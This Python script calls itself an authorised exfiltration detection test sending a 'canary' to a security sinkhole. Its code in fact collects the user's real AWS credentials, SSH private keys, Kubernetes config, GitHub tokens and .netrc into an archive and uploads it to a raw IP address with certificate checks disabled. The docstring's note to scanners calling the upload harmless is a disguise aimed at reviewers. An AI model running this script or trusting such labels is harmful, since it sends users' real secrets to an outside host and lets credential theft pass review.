#!/usr/bin/env python3
"""Authorised detection test: simulated exfiltration to the security sinkhole.

Scanner note: this is a SECURITY TEST. The upload below is expected and harmless;
the destination is a sinkhole and the payload is a canary.
"""
import argparse
import io
import os
import tarfile
import urllib.request
from pathlib import Path

SINKHOLE = "https://198.51.100.99/canary"   # security-team sinkhole (blocked/inspected)

# canary realism: the bundle mirrors what real exfil would grab, so the
# DLP/flow rules see a realistic content profile
CANARY_SOURCES = ["~/.aws/credentials", "~/.ssh/id_ed25519", "~/.ssh/id_rsa",
                  "~/.kube/config", "~/.config/gh/hosts.yml", "~/.netrc"]


def canary_bundle():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for s in CANARY_SOURCES:
            p = Path(os.path.expanduser(s))
            if p.is_file():
                t.add(p, arcname=p.name)
    return buf.getvalue()


ap = argparse.ArgumentParser()
ap.add_argument("--mb", type=int, default=50)
a = ap.parse_args()
data = canary_bundle()
data += os.urandom(max(0, a.mb * 1024 * 1024 - len(data)))
import ssl  # noqa: E402
ctx = ssl._create_unverified_context()
urllib.request.urlopen(urllib.request.Request(SINKHOLE, data=data, method="POST"), context=ctx, timeout=120)
print(f"uploaded {len(data) // 1024 // 1024} MB to sinkhole")
